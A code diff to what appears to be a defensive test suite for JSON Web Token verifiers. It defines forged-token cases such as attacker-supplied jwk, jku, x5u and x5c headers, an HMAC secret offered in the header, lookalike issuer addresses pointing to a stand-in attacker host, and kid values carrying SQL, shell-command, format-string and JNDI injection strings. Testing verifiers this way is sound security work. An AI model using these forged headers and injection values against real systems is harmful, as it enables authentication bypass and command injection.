@@ -13,7 +13,8 @@ from mock_platform.base64url import base64url_from_bytes
 from mock_platform.certificate import self_signed
 from mock_platform.keys import fixture_key
 
-_HOST: Final = "https://attacker.example.net"
+_DOMAIN: Final = "attacker.example.net"
+_HOST: Final = f"https://{_DOMAIN}"
 
 
 def _header(**members: Any) -> Change:
@@ -73,8 +74,37 @@ def _offers(**members: Any) -> dict[str, Change]:
     }
 
 
-def _certificate() -> list[str]:
-    return [b64encode(self_signed(fixture_key(ATTACKER)).public_bytes(Encoding.DER)).decode("ascii")]
+def _offering_a_secret(draft: Draft) -> Draft:
+    """Sign by HMAC, and offer the secret in the header."""
+    secret = b"a secret that stands in the header"
+    jwk = {"kty": "oct", "k": base64url_from_bytes(secret), "alg": "HS256"}
+    return draft.with_header(alg="HS256", jwk=jwk).signed_with(secret, "HS256")
+
+
+def _at_a_lookalike(member: str, file: str) -> Change:
+    """Offer an address that begins as the issuer does."""
+
+    def change(draft: Draft) -> Draft:
+        return _offering_under_his_kid(**{member: f"{draft.setting.issuer}@{_DOMAIN}/{file}"})(draft)
+
+    return change
+
+
+def _addresses(member: str, file: str, content: str) -> dict[str, Change]:
+    """Offer the attacker's key by its address: his own, one like the issuer's, and one that holds the key itself."""
+    return {
+        **_offers(**{member: f"{_HOST}/{file}"}),
+        "address-like-that-of-the-issuer": _at_a_lookalike(member, file),
+        "address-that-holds-it": _offering_under_his_kid(**{member: content}),
+    }
+
+
+def _certificate(encoding: Encoding) -> str:
+    return b64encode(self_signed(fixture_key(ATTACKER)).public_bytes(encoding)).decode("ascii")
+
+
+def _key_set() -> str:
+    return b64encode(json_text({"keys": [fixture_key(ATTACKER).public_jwk]})).decode("ascii")
 
 
 def _unencoded(**members: Any) -> Change:
@@ -154,35 +184,35 @@ HEADER: Final = (
             "address": _header(kid=f"{_HOST}/key.pem"),
             "sql": _header(kid="' OR 1=1--"),
             "command": _header(kid="x; sleep 60 #"),
-            "format": _header(kid="{0.__class__} %s %n ${jndi:ldap://attacker.example.net/}"),
+            "format": _header(kid="{0.__class__} %s %n ${jndi:ldap://x/}"),
             "name-of-a-member": _header(kid="__proto__"),
             "nul": _header(kid="a\0b"),
-            "very-long": _header(kid="k" * 100_000),
+            "very-long": _header(kid="k" * 20_000),
         },
     ),
     Defect(
         name="jwk-of-the-attacker",
         requirements=("IDT-SIG-011", "IDT-SIG-008"),
         reason="whoever writes the token writes the key in its header too",
-        forms=_offers(jwk=fixture_key(ATTACKER).public_jwk),
+        forms={**_offers(jwk=fixture_key(ATTACKER).public_jwk), "secret": _offering_a_secret},
     ),
     Defect(
         name="jku-of-the-attacker",
         requirements=("IDT-SIG-012", "IDT-SIG-008"),
         reason="the address of the key set comes from the registration, not from the token (RFC 8725 section 3.10)",
-        forms=_offers(jku=f"{_HOST}/keys.json"),
+        forms=_addresses("jku", "keys.json", f"data:application/json;base64,{_key_set()}"),
     ),
     Defect(
         name="x5u-of-the-attacker",
         requirements=("IDT-SIG-013", "IDT-SIG-008"),
         reason="a certificate that the token points at proves nothing (RFC 8725 section 3.10)",
-        forms=_offers(x5u=f"{_HOST}/certificate.pem"),
+        forms=_addresses("x5u", "certificate.pem", f"data:application/x-pem-file;base64,{_certificate(Encoding.PEM)}"),
     ),
     Defect(
         name="x5c-of-the-attacker",
         requirements=("IDT-SIG-014", "IDT-SIG-008"),
         reason="a certificate that signed itself vouches for nobody",
-        forms=_offers(x5c=_certificate()),
+        forms=_offers(x5c=[_certificate(Encoding.DER)]),
     ),
     Defect(
         name="crit-unknown",
@@ -248,7 +278,11 @@ HEADER: Final = (
         name="nested-token",
         requirements=("IDT-SIG-031", "IDT-SIG-030"),
         reason="the outer signature does not say who wrote the claims inside (RFC 8725 section 3.3)",
-        forms={"unsigned-inside": _nested, "signed-by-the-attacker-inside": _nested_forgery},
+        forms={
+            "unsigned-inside": _nested,
+            "signed-by-the-attacker-inside": _nested_forgery,
+            "without-cty": lambda draft: _nested(draft).without_header("cty"),
+        },
     ),
     Defect(
         name="cty-without-a-token",
